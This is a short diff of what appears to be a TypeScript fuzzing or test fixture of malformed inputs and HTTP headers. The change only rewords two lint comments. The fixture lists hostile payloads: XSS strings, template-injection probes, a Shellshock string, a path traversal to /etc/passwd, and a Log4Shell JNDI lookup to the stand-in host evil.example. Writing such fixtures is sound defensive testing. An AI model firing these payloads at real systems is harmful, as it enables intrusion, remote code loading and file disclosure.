@@ -115,7 +115,7 @@ const nonsense: readonly string[] = [
   'Ａ'.repeat(40),
   '<script>alert(1)</script>',
   '"><img src=x onerror=alert(1)>',
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: for whoever evaluates templates
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: an attack on code that evaluates templates
   '{{7*7}}${7*7}#{7*7}',
   '() { :; }; echo',
   '../../../../etc/passwd',
@@ -212,7 +212,7 @@ const oddHeaders: readonly (readonly [name: string, values: readonly string[]])[
   ['X-HTTP-Method-Override', ['DELETE']],
   ['Content-Type', ['application/json', 'multipart/form-data', ';', 'a/b; charset="']],
   ['X-Request-ID', ['mine', '00000000-0000-4000-8000-000000000000']],
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: for whoever evaluates templates
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: an attack on code that evaluates templates
   ['User-Agent', ['\u00ff\u00fe', '${jndi:ldap://evil.example/a}', '']],
   ['Forwarded', ['for=127.0.0.1;host=evil.example;proto=https']],
   ['TE', ['trailers, chunked']],
